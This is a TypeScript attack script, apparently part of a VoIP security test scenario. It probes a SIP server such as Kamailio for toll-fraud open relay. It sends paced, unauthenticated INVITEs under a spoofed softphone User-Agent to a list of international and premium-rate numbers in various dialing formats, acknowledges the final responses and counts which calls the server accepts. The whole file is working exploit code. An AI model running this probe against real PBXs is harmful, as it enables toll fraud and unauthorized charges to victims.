// Scenario 6's attacker, run as its own process in the attacker namespace:
// the open-relay probe of toll fraud. Unauthenticated INVITEs to
// international and premium-rate numbers in the dialing forms PBX dialplans
// accept (00, 011, +, a leading 9 or 0 for an outside line), paced, from a
// softphone-looking User-Agent. Counts the answers by status code and
// acknowledges every final answer (RFC 3261 §17.1.1.3) so Kamailio does not
// retransmit. Prints one JSON line.
//
//   node relay-probe.js --dst IP --src IP --rate N --ua TEXT

import { createSocket } from 'node:dgram';

const NUMBERS = [
  // UK (Ofcom's drama range), in every international dialing form
  '00442079460000', '0114420794600001', '+442079460002', '900442079460003', '000442079460004',
  // premium rate and international shared-cost ranges
  '+88213000005', '0088213000006', '90088213000007', '+8823000008', '008823000009',
  '+870776000010', '00870776000011', '+881631000012', '0900123000013', '900123000014',
  '1900555000015', '91900555000016', '+19005550017', '0019005550018', '01119005550019',
  // other international destinations common in fraud reports
  '0037367000020', '+37367000021', '00252610000022', '+252610000023', '0023762000024',
  '+23762000025', '0053555000026', '+5355000027', '009647000028', '+9647000029',
  '0021690000030', '+21690000031', '0024177000032', '+24177000033', '00881600000034',
  '+881600000035', '0088210000036', '+88210000037', '9011442079460038', '80044207946003',
];

function arg(name: string, dflt?: string): string {
  const i = process.argv.indexOf(name);
  const v = i >= 0 ? process.argv[i + 1] : dflt;
  if (v === undefined) {
    console.error(`relay-probe: ${name} required`);
    process.exit(64);
  }
  return v;
}

const dst = arg('--dst');
const src = arg('--src');
const rate = Number(arg('--rate', '10'));
const ua = arg('--ua', 'Zoiper rv2.10.20.4');

const sock = createSocket('udp4');
const codes: Record<string, number> = {};
let sent = 0;
let answered = 0;

function invite(n: string, i: number): string {
  const tag = `rp${i}x${process.pid}`;
  return [
    `INVITE sip:${n}@${dst} SIP/2.0`,
    `Via: SIP/2.0/UDP ${src}:5060;branch=z9hG4bK-${tag};rport`,
    'Max-Forwards: 70',
    `From: "100" <sip:100@${dst}>;tag=${tag}`,
    `To: <sip:${n}@${dst}>`,
    `Call-ID: ${tag}@${src}`,
    'CSeq: 1 INVITE',
    `Contact: <sip:100@${src}:5060>`,
    `User-Agent: ${ua}`,
    'Content-Type: application/sdp',
    'Content-Length: 0',
    '',
    '',
  ].join('\r\n');
}

sock.on('message', (m) => {
  const text = m.toString('latin1');
  const code = /^SIP\/2\.0 (\d{3})/.exec(text)?.[1];
  if (code === undefined) return;
  if (Number(code) < 200) return;
  codes[code] = (codes[code] ?? 0) + 1;
  if (Number(code) < 300) answered++;
  // ACK for the final answer: same Call-ID, From, CSeq number, the answer's To (with its tag), same branch for non-2xx.
  const h = (name: string): string => new RegExp(`^${name}:[^\\r\\n]*`, 'im').exec(text)?.[0] ?? '';
  const ruri = /^To:\s*<([^>]+)>/im.exec(text)?.[1] ?? `sip:unknown@${dst}`;
  const ack = [`ACK ${ruri} SIP/2.0`, h('Via'), 'Max-Forwards: 70', h('From'), h('To'), h('Call-ID'), 'CSeq: 1 ACK', 'Content-Length: 0', '', ''].join('\r\n');
  sock.send(ack, 5060, dst);
});

sock.bind(5060, src, () => {
  let i = 0;
  const timer = setInterval(() => {
    const n = NUMBERS[i];
    if (n === undefined) {
      clearInterval(timer);
      // Last answers (and Kamailio's retransmissions of unacknowledged ones) within 3 s.
      setTimeout(() => {
        process.stdout.write(`${JSON.stringify({ sent, codes, answered2xx: answered, numbers: NUMBERS.length })}\n`);
        sock.close();
        process.exit(0);
      }, 3000);
      return;
    }
    sock.send(invite(n, i), 5060, dst);
    sent++;
    i++;
  }, 1000 / rate);
});
